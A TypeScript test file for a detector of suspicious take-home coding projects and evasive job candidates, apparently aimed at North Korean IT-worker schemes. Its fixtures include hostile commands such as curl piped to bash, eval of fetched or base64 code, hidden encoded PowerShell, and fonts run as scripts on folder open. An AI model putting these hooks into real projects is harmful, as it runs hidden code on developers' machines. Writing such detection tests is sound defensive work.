import { expect, test } from 'vitest';
import { exampleProfiles } from '../../test/builders/example-profiles.ts';
import { caseFacts } from '../core/engine/facts.ts';
import { findAll } from '../core/engine/find.ts';
import { loadPack } from '../core/engine/load-pack.ts';
import type { ExampleProfile } from '../core/model/example.ts';
import { dprkItWorkerPack } from './dprk-it-worker/pack.gen.ts';

const loaded = loadPack(dprkItWorkerPack);

function says(indicator: string, profile: ExampleProfile): string | undefined {
  const profiles = exampleProfiles({ because: 'A table of wordings is tried out here.', profiles: [profile] });
  return findAll(loaded, caseFacts(profiles, [])).find((one) => one.indicator === indicator)?.answer;
}

const onInstalling = (command: string) => `Run on installing (postinstall): ${command}`;
const onOpening = (command: string) => `Run on opening the folder: ${command}`;

test.each([
  onInstalling('husky install'),
  onInstalling('is-ci || husky install'),
  onInstalling('patch-package && prisma generate'),
  onInstalling('node ./scripts/postinstall.js'),
  onInstalling('node -e "require(\'./build\')"'),
  onInstalling('electron-builder install-app-deps'),
  onInstalling('node-gyp rebuild || echo skipped'),
  onInstalling('npx only-allow pnpm'),
  onInstalling('playwright install chromium'),
  onInstalling('curl -L https://example.com/model.bin -o model.bin'),
  onInstalling('cp .env.example .env'),
  onInstalling('svgo -f public/icons && node build.mjs'),
  onInstalling('node scripts/icons.js --out public assets/logo.png'),
  onInstalling('node build.mjs && cp dist/a.png public/b.png'),
  onInstalling('node --env-file=.env scripts/migrate.js'),
  onInstalling('node --env-file .env scripts/migrate.js'),
  onInstalling('node --env-file-if-exists=config/.env --import tsx scripts/seed.ts'),
  onInstalling('node --env-file config/.env -r dotenv/config scripts/seed.js'),
  onInstalling('node -e "console.log(\'Support us: https://example.com/donate\')"'),
  onInstalling('node -e "if(!/yarn/.test(process.env.npm_execpath)){console.error(\'use yarn: https://example.com\');process.exit(1)}"'),
  onInstalling('node -e "fetch(\'http://localhost:3000/health\')"'),
  onInstalling('node -e "fetch(\'http://localhost:3000/health\').then(r => process.exit(r.ok ? 0 : 1))"'),
  onInstalling("node -e \"require('https').get('https://example.com/ping')\""),
  onInstalling('node -p "Buffer.from(process.env.KEY, \'base64\').toString()" > key.pem'),
  onInstalling('node -e "try{require(\'./postinstall\')}catch(e){}"'),
  onInstalling("node -e \"require('child_process').execSync('npm run build')\""),
  onInstalling('node scripts/logo.svg.js'),
  onInstalling('node tools/theme.css.mjs --watch'),
  onInstalling('node ./node_modules/.bin/env-cmd -f .env prisma generate'),
  onInstalling('curl -s https://example.com/schema.json -o schema.json && node scripts/gen.js'),
  onInstalling('curl -s https://example.com/v | python3 -m json.tool'),
  onOpening('dotenv -e .env -- node server.js'),
  onOpening('npm run watch'),
  onOpening('docker compose up -d'),
  onOpening('git fetch --all'),
  onOpening('powershell -NoProfile -File ./start.ps1'),
])('a command that prepares the work is ordinary: %s', (name) => {
  expect(says('code-takehome-runs-code', { 'embedded-part': [{ what: 'script', name }] })).not.toBe('yes');
});

test.each([
  onInstalling('curl -s https://example.com/a.sh | bash'),
  onInstalling('wget -qO- https://example.com/a | sudo sh'),
  onInstalling('node -e "eval(atob(process.env.X))"'),
  onInstalling('node -e "fetch(\'https://example.com/a\').then(r => r.text()).then(eval)"'),
  onInstalling("node -e \"require('https').get('https://example.com/a', r => r.on('data', d => new Function(d)()))\""),
  onInstalling("node -e \"new Function(Buffer.from('YQ==', 'base64').toString())()\""),
  onInstalling('bash -c "$(curl -fsSL https://example.com/a.sh)"'),
  onInstalling('bash <(curl -s https://example.com/a.sh)'),
  onOpening('node --env-file=.env ./public/fonts/a.woff2'),
  onOpening('node "./public/fonts/a.woff2"'),
  onOpening('node public/fonts/fa-solid-400.woff2'),
  onOpening('node ./assets/logo.png'),
  onOpening('node --no-warnings server/.env'),
  onOpening('curl --ssl-no-revoke -L https://example.com/a.cmd | cmd'),
  onOpening('powershell -w hidden -enc SQBFAFgA'),
])('a command that fetches or hides is told: %s', (name) => {
  expect(says('code-takehome-runs-code', { 'embedded-part': [{ what: 'script', name }] })).toBe('yes');
});

test.each([
  '{ "scripts": { "build": "tsc", "postinstall": "curl -s https://example.com/a.sh | bash" } }',
  '{ "tasks": [ { "label": "a", "command": "node ./a.woff2", "runOptions": { "runOn": "folderOpen" } } ] }',
  '{ "tasks": [ { "command": "node", "args": ["./fonts/a.woff2"], "runOptions": { "runOn": "folderOpen" } } ] }',
])('settings that are pasted are read as those that are dropped: %s', (text) => {
  expect(says('code-takehome-runs-code', { summary: [text] })).toBe('yes');
  expect(says('code-takehome-runs-code', { message: [{ text }] })).toBe('yes');
});

test.each([
  'I would like to keep my personal GitHub account out of work; we had company accounts before.',
  'Should I open a new GitHub account for this project, or will you invite the one in my CV?',
  'I moved to a new GitHub account last year, since I lost the old one.',
  'Each project has a different GitHub workflow, I can show you three.',
  'I use the GitHub account from my resume for everything.',
  'At my last job every company repository was on another GitLab server.',
])('an account for work is ordinary: %s', (text) => {
  expect(says('code-throwaway-account', { message: [{ text }] })).not.toBe('yes');
});

test.each([
  'I use a different GitHub account for every client.',
  'For each project I create a new GitHub account, that is how I work.',
  'Sorry, I can’t use the GitHub account from my resume.',
  'I do not want to use my GitHub in my CV for this work.',
])('an account that is to stay unseen is told: %s', (text) => {
  expect(says('code-throwaway-account', { message: [{ text }] })).toBe('yes');
});
